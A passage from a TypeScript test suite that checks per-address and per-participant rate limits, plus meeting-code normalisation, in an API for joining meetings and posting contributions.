      expectProblem(blockedJoin, 429, 'too_many_requests');
      expect(await stateOf(g.store, place.id)).toEqual(before);
      // Who joined already keeps going behind that address; another address is not held up.
      const view = await g.app.inject(
        asParticipant(behindBusyAddress.token, 'GET', '/view', undefined, '192.0.2.7'),
      );
      expect(view.statusCode, view.body).toBe(200);
      expect((await door(meeting.code, '192.0.2.8')).statusCode).toBe(200);
    });

    it('limits looking up and joining per address, right codes included', async () => {
      const meeting = await newMeeting(g, place);
      for (let k = 0; k < LIMITS.joins / 2; k += 1) {
        expect((await door(meeting.code, '192.0.2.20')).statusCode).toBe(200);
        await joinAs(g, meeting, `Telefoon ${k}`, k % 4, '192.0.2.20');
      }
      const before = await stateOf(g.store, place.id);
      const over = await door(meeting.code, '192.0.2.20');
      expectProblem(over, 429, 'too_many_requests');
      expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
      const joinOver = await g.app.inject({
        method: 'POST',
        url: `${API}/meeting-participation/join`,
        payload: { code: meeting.code, groupId: meeting.groups[0]?.id },
        remoteAddress: '192.0.2.20',
      });
      expectProblem(joinOver, 429, 'too_many_requests');
      expect(await stateOf(g.store, place.id)).toEqual(before);
      await joinAs(g, meeting, 'Andere zaal', 0, '192.0.2.21');
    });

    it('limits a participant’s changes per token, not their reading nor other participants', async () => {
      const meeting = await newMeeting(g, place);
      const [anna, bram] = [
        await joinAs(g, meeting, 'Anna', 0, '192.0.2.30'),
        await joinAs(g, meeting, 'Bram', 1, '192.0.2.30'),
      ];
      const write = (token: string, name: string) =>
        g.app.inject(
          asParticipant(
            token,
            'POST',
            '/contributions',
            { kind: 'actor', name, force: 'rijk' },
            '192.0.2.30',
          ),
        );
      const first = await sent(await write(anna.token, 'Een'));
      for (let k = 1; k < LIMITS.participantWrites - 1; k += 1)
        await sent(await write(anna.token, `Nog ${k}`));
      const withdrawn = await g.app.inject(
        asParticipant(anna.token, 'DELETE', `/contributions/${first.id}`, undefined, '192.0.2.30'),
      );
      expect(withdrawn.statusCode, withdrawn.body).toBe(204);

      const before = await stateOf(g.store, place.id);
      const over = await write(anna.token, 'Te veel');
      expectProblem(over, 429, 'too_many_requests');
      expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
      expectProblem(
        await g.app.inject(
          asParticipant(anna.token, 'DELETE', `/contributions/${first.id}`, undefined, '192.0.2.30'),
        ),
        429,
        'too_many_requests',
      );
      expect(await stateOf(g.store, place.id)).toEqual(before);
      const reading = await g.app.inject(asParticipant(anna.token, 'GET', '/view', undefined, '192.0.2.30'));
      expect(reading.statusCode, reading.body).toBe(200);
      await sent(await write(bram.token, 'Van Bram'));
    });
  });

  it('takes the meeting’s code in any case, with spaces or a dash, and only that code', async () => {
    const meeting = await newMeeting(t, workspace);
    expect(meeting.code).toMatch(CODE_PATTERN);
    const typed = ` ${meeting.code.slice(0, 3).toLowerCase()}-${meeting.code.slice(3)} `;
    const response = await t.app.inject({
      method: 'POST',
      url: `${API}/meeting-participation/door`,
      payload: { code: typed },
    });
    expect(response.statusCode, response.body).toBe(200);
    // One character off is another (unknown) code.
    const last = meeting.code.at(-1) === 'A' ? 'B' : 'A';
    const off = await t.app.inject({
      method: 'POST',
      url: `${API}/meeting-participation/door`,
      payload: { code: `${meeting.code.slice(0, 5)}${last}` },
    });
    expectProblem(off, 404, 'meeting_code');
  });
});
